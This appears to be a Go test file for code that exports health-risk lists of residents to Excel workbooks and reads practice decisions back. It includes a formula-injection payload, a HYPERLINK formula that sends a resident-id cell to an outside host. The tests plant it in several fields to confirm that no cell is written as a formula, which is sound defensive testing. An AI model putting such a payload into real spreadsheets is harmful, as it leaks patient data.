package workbook

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"riskstrat/features/source"
	"riskstrat/pipeline/decision"
	"riskstrat/pipeline/part"
)

// night is 20 November 2026.
const night source.Day = 20_777

// attack would run in a spreadsheet that took it for a formula.
const attack = `=HYPERLINK("http://example.org/?"&C2,"look")`

func example(t *testing.T) []byte {
	t.Helper()
	p := &part.Part{
		Format: part.Format, Place: "A place", AsOf: night, Practice: "Y90001", PCN: "U90001", Services: []part.Service{},
		Lists: []part.List{
			{Name: "rising_need", Title: "Rising need", Outcome: "an admission", Policy: []string{"Highest risk first."}, Group: "practice", ValidUntil: night + 7,
				Rows: []part.Row{
					{Rank: 1, Resident: "aa", ChanceIn100: 41, Tier: "high", Reasons: []string{"6 A&E attendances", attack}, ReviewFirst: true, ListedOn: night - 3},
					{Rank: 2, Resident: "0012", ChanceIn100: 30, Reasons: []string{"+1", "@now"}, ListedOn: night, New: true, Needs: []string{attack}},
					{Rank: 3, Resident: "cc", ChanceIn100: 20, Reasons: []string{}, ListedOn: night},
				}, Left: []part.Leaver{{Resident: "dd", Why: "has died"}}},
			{Name: "register", Title: "Register", Policy: []string{attack}, Group: "practice", ValidUntil: night + 7,
				Rows: []part.Row{{Rank: 1, Resident: "aa", Reasons: []string{}, ListedOn: night}}, Left: []part.Leaver{}},
		},
	}
	encoded, err := p.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return encoded
}

func written(t *testing.T) []byte {
	t.Helper()
	return writtenWith(t, nil)
}

func writtenWith(t *testing.T, local map[string]string) []byte {
	t.Helper()
	encoded := example(t)
	p, err := part.Decode(encoded)
	if err != nil {
		t.Fatal(err)
	}
	content, err := Write(p, part.Digest(encoded), local)
	if err != nil {
		t.Fatal(err)
	}
	return content
}

// edit is a workbook changed as a person changes it.
func edit(t *testing.T, content []byte, change func(x *excelize.File) error) []byte {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if err := change(x); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := x.WriteTo(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// set fills in cells of a sheet.
func set(sheet string, cells map[string]any) func(x *excelize.File) error {
	return func(x *excelize.File) error {
		var err error
		for cell, value := range cells {
			err = errors.Join(err, x.SetCellValue(sheet, cell, value))
		}
		return err
	}
}

func TestSameBytes(t *testing.T) {
	if !bytes.Equal(written(t), written(t)) {
		t.Error("the same part gives two workbooks")
	}
}

// No cell is a formula, and what the part holds is found as it is.
func TestTextsAreTexts(t *testing.T) {
	content := written(t)
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	sheets := 0
	for _, f := range z.File {
		in, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(in)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(f.Name, "xl/worksheets/") {
			sheets++
			if bytes.Contains(text, []byte("<f>")) || bytes.Contains(text, []byte("<f ")) || bytes.Contains(text, []byte("<hyperlink")) {
				t.Errorf("%s holds a formula or a link", f.Name)
			}
		}
	}
	x, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil || sheets != 5 {
		t.Fatal(err, sheets)
	}
	defer x.Close()
	for cell, want := range map[string]string{"C3": "0012", "H2": attack, "G3": "+1", "H3": "@now", "N3": attack, "E2": "41", "K3": "2026-11-20", "D2": ""} {
		if have, err := x.GetCellValue(listsSheet, cell); err != nil || have != want {
			t.Errorf("%s: have %q, %v, want %q", cell, have, err, want)
		}
	}
	for sheet, want := range map[string]int{listsSheet: 2, forwardSheet: 2} {
		if rules, err := x.GetDataValidations(sheet); err != nil || len(rules) != want {
			t.Errorf("%s: have %d rules, %v", sheet, len(rules), err)
		}
	}
	if panes, err := x.GetPanes(listsSheet); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("have %+v, %v, want a frozen header", panes, err)
	}
}

func TestRoundTrip(t *testing.T) {
	encoded := example(t)
	back := edit(t, written(t), set(listsSheet, map[string]any{
		"D2": "NHS 943 476 5919", "P2": "accepted the offer", "Q2": int(night) + 25569 + 1, "R2": "Walking group", "S2": "Town",
		"P3": "Could not be reached ", "Q3": "21/11/2026", "P5": "accepted", "Q5": "2026-11-21",
	}))
	back = edit(t, back, set(forwardSheet, map[string]any{"A2": "zz", "B2": "put forward by the practice", "C2": float64(night) + 25569 + 2.5}))
	have, err := Read(back)
	if err != nil {
		t.Fatal(err)
	}
	want := &decision.File{
		Format: decision.Format, Place: "A place", Practice: "Y90001", AsOf: night, Part: part.Digest(encoded),
		Decisions: []decision.Decision{
			{Resident: "aa", List: "rising_need", Decision: "accepted", DecidedOn: night + 1, Service: "Walking group", Provider: "Town"},
			{Resident: "0012", List: "rising_need", Decision: "not_reached", DecidedOn: night + 1},
			{Resident: "zz", Decision: "nominate", DecidedOn: night + 2},
		},
	}
	want.Seal = decision.Seal(want.Part, want.Decisions)
	if diff := cmp.Diff(want, have); diff != "" {
		t.Error(diff)
	}
	untouched, err := Read(written(t))
	if err != nil || len(untouched.Decisions) != 0 {
		t.Errorf("untouched: have %+v, %v", untouched, err)
	}
}

// At the practice the workbook has its own ids, as texts, and what comes back of it has none.
func TestLocalIDs(t *testing.T) {
	content := writtenWith(t, map[string]string{"aa": attack, "cc": "SYN-00042", "zz": "SYN-00077"})
	x, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for cell, want := range map[string]string{"D2": attack, "D3": "", "D4": "SYN-00042", "D5": attack} {
		have, err := x.GetCellValue(listsSheet, cell)
		if formula, more := x.GetCellFormula(listsSheet, cell); err != nil || more != nil || have != want || formula != "" {
			t.Errorf("%s: have %q, formula %q, want %q", cell, have, formula, want)
		}
	}
	back, err := Read(edit(t, content, set(listsSheet, map[string]any{"P4": "declined the offer", "Q4": "2026-11-21"})))
	if err != nil || len(back.Decisions) != 1 {
		t.Fatalf("have %+v, %v", back, err)
	}
	if encoded, err := back.Encode(); err != nil || bytes.Contains(encoded, []byte("SYN-")) || back.Decisions[0].Resident != "cc" {
		t.Errorf("have %s, %v", encoded, err)
	}
}

// One slip sets one row aside, by its number in the sheet; the other rows count.
func TestReadKeepsTheOthers(t *testing.T) {
	for name, slip := range map[string]map[string]any{
		"no date": {"Q3": nil}, "no word": {"P3": nil}, "another word": {"P3": "perhaps"}, "a date that is none": {"Q3": "31/11/2026"}, "last year's": {"Q3": "2025-11-21"},
	} {
		cells := map[string]any{"P2": "accepted the offer", "Q2": "2026-11-21", "P3": "could not be reached", "Q3": "2026-11-21"}
		for cell, v := range slip {
			cells[cell] = v
		}
		have, err := Read(edit(t, written(t), set(listsSheet, cells)))
		if err != nil || len(have.Decisions) != 1 || have.Decisions[0].Resident != "aa" || len(have.Unread) != 1 || have.Unread[0] != "row 3 of Lists" {
			t.Errorf("%s: have %+v, %v", name, have, err)
		}
	}
}

func TestReadRefuses(t *testing.T) {
	good := map[string]any{"P2": "accepted the offer", "Q2": "2026-11-21"}
	with := func(more map[string]any) map[string]any {
		all := map[string]any{}
		for _, m := range []map[string]any{good, more} {
			for cell, v := range m {
				all[cell] = v
			}
		}
		return all
	}
	for name, c := range map[string]struct {
		cells map[string]any
		want  error
	}{
		"another person":      {with(map[string]any{"C2": "cc"}), decision.ErrSeal},
		"another list":        {with(map[string]any{"T2": "register"}), decision.ErrSeal},
		"no date":             {with(map[string]any{"Q2": nil}), decision.ErrIncomplete},
		"no word":             {with(map[string]any{"P2": nil}), decision.ErrIncomplete},
		"another word":        {with(map[string]any{"P2": "aa said perhaps"}), decision.ErrIncomplete},
		"a date that is none": {with(map[string]any{"Q2": "31/11/2026"}), decision.ErrIncomplete},
		"a contradiction":     {with(map[string]any{"P5": "declined the offer", "Q5": "2026-11-21"}), decision.ErrIncomplete},
		"a column renamed":    {with(map[string]any{"P1": "Verdict"}), errForm},
	} {
		_, err := Read(edit(t, written(t), set(listsSheet, c.cells)))
		if !errors.Is(err, c.want) {
			t.Errorf("%s: have %v, want %v", name, err, c.want)
		}
		if err != nil && strings.Contains(err.Error(), "perhaps") {
			t.Errorf("%s: the message repeats the workbook", name)
		}
	}
	whole := written(t)
	for name, content := range map[string][]byte{"nothing": nil, "rubbish": []byte("PK rubbish"), "cut off": whole[:len(whole)/2]} {
		if _, err := Read(content); !errors.Is(err, errForm) {
			t.Errorf("%s: have %v", name, err)
		}
	}
}
